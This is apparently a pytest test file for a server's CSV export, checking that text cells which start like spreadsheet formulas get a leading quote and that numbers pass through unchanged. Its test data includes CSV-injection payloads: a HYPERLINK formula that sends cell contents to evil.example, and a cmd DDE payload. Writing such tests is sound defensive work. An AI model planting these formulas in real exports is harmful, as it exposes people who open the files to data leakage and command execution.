"""CSV exports neutralise formulas (OWASP CSV injection) and keep numbers as numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from server.reminders.effect import effect_csv
from server.web.csvexport import rows_csv, safe_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.25, -3, 0, 1.5, Decimal("-1.5"), None, True])
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["Rue de la Paix", "", "'=already quoted", "a=b", "12"])
def test_plain_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_number_like_text_is_still_text() -> None:
    # A string is untrusted whatever it looks like: "-2" from a street name stays visible, as text.
    assert safe_cell("-2") == "'-2"


def test_rows_csv_round_trips_with_every_text_cell_neutralised() -> None:
    rows = [{"name": f, "rate": -0.5, "extra": "ignored"} for f in FORMULAS]
    parsed = list(csv.DictReader(io.StringIO(rows_csv(["name", "rate"], rows))))
    assert [r["name"] for r in parsed] == ["'" + f for f in FORMULAS]
    assert {r["rate"] for r in parsed} == {"-0.5"}


def test_effect_csv_neutralises_unit_keys_and_quotes_the_verdict() -> None:
    report = {"status": "decrease", "text": 'Baisse : -3,2 points, "significative"',
              "units": [{"group": "household", "unit": "=1+1", "lifts_before": 10, "contaminated_before": 4,
                         "rate_before": 0.4, "lifts_after": 10, "contaminated_after": 1, "rate_after": -0.1}]}
    rows = list(csv.reader(io.StringIO(effect_csv(report))))
    assert rows[1][1] == "'=1+1" and rows[1][-1] == "-0.1"
    assert rows[-1] == ["# verdict", "decrease", 'Baisse : -3,2 points, "significative"']
